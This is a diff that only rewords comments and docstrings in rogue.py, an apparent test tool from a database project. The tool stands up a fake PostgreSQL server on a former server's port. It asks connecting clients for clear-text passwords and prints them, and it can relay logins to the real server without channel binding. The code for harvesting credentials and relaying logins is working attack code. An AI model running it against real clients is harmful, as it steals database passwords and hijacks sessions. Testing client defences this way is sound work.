@@ -1,10 +1,10 @@
 # SPDX-FileCopyrightText: mala.hpc_db contributors
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""A rogue server on a port that a real one had: python rogue.py PORT [CERTIFICATE KEY] [--relay=HOST:PORT | --silent].
+"""A rogue server on a former server's port: python rogue.py PORT [CERTIFICATE KEY] [--relay=HOST:PORT | --silent].
 
-It speaks enough of PostgreSQL's protocol to ask each client for its password in clear text, and prints as
-hexadecimal digits what it got after the start-up packet. With a certificate it offers TLS. With --relay it passes the
-login on to the real server instead, and prints whether it was let in. With --silent it never answers.
+It speaks enough of PostgreSQL's protocol to ask each client for its password in clear text, and prints the reply to
+that in hexadecimal digits. With a certificate it offers TLS. With --relay it passes the login on to the real server
+instead, and prints whether the server accepted it. With --silent it never answers.
 """
 
 import argparse
@@ -15,20 +15,20 @@ import threading
 
 SSL_REQUEST = 80877103
 CLEAR_TEXT_PASSWORD = struct.pack("!cII", b"R", 8, 3)
-# What binds a login to one TLS connection; a client that does not insist does without it.
+# This mechanism binds a login to one TLS connection; a client that does not require it logs in without.
 CHANNEL_BINDING = b"SCRAM-SHA-256-PLUS\0"
 LET_IN, MECHANISMS, LAST_PROOF = 0, 10, 12
 _one_at_a_time = threading.Lock()
 
 
 def say(line: str) -> None:
-    """Print a line as a whole, whatever other threads print."""
+    """Print a line in one piece, even while other threads print."""
     with _one_at_a_time:
         print(line, flush=True)
 
 
 def read(peer: socket.socket, length: int) -> bytes:
-    """Read so many bytes, fewer at the end."""
+    """Read ``length`` bytes, or fewer at the end of the stream."""
     got = b""
     while len(got) < length:
         more = peer.recv(length - len(got))
@@ -39,18 +39,18 @@ def read(peer: socket.socket, length: int) -> bytes:
 
 
 def packet(client: socket.socket) -> bytes:
-    """Read a packet of the kind that has no type, which a connection begins with."""
+    """Read a packet without a type byte, as at the start of a connection."""
     length = read(client, 4)
     return read(client, struct.unpack("!I", length)[0] - 4) if len(length) == 4 else b""
 
 
 def framed(kind: bytes, body: bytes) -> bytes:
-    """Return a packet; ``kind`` is empty for the first one of a connection."""
+    """Return a packet; ``kind`` is empty for the first packet of a connection."""
     return kind + struct.pack("!I", len(body) + 4) + body
 
 
 def connect(address: str) -> socket.socket:
-    """Connect to the real server, with TLS if it has that."""
+    """Connect to the real server, with TLS if it offers that."""
     host, port = address.rsplit(":", 1)
     server = socket.create_connection((host, int(port)), timeout=5)
     server.sendall(framed(b"", struct.pack("!I", SSL_REQUEST)))
@@ -62,7 +62,7 @@ def connect(address: str) -> socket.socket:
 
 
 def relay(client: socket.socket, start: bytes, address: str) -> bytes:
-    """Pass the login on to the real server, without channel binding; return whether it let us in."""
+    """Pass the login on to the real server, without channel binding; return whether the server accepted it."""
     with connect(address) as server:
         server.sendall(framed(b"", start))
         while True:
@@ -84,9 +84,9 @@ def relay(client: socket.socket, start: bytes, address: str) -> bytes:
 
 
 def trick(client: socket.socket, tls: "ssl.SSLContext | None", relay_to: str) -> bytes:
-    """Ask for the password, or pass the login on; return what came of it."""
+    """Ask for the password, or pass the login on; return the result."""
     start = packet(client)
-    while len(start) == 4 and struct.unpack("!I", start)[0] != 196608:  # asks for TLS, or for GSS
+    while len(start) == 4 and struct.unpack("!I", start)[0] != 196608:  # the client asks for TLS or GSS
         wants_tls = struct.unpack("!I", start)[0] == SSL_REQUEST
         client.sendall(b"S" if wants_tls and tls else b"N")
         if wants_tls and tls:
@@ -101,7 +101,7 @@ def trick(client: socket.socket, tls: "ssl.SSLContext | None", relay_to: str) ->
 
 
 def serve(client: socket.socket, tls: "ssl.SSLContext | None", relay_to: str, silent: bool) -> None:
-    """Serve one client, and print what it gave away."""
+    """Serve one client, and print the secrets it gave away."""
     try:
         client.settimeout(None if silent else 5)
         while silent and client.recv(1000):
